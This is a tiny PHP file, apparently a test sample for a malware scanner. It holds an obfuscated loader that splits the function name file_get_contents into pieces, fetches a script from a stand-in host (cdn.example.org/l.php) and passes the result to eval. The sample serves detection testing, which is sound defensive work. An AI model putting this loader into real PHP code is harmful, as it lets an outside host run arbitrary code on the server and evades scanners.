<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$u = vsprintf('%s://%s/%s', ['http', 'cdn.example.org', 'l.php']);
$f = 'file_get' . '_contents';
eval('?>' . $f($u));
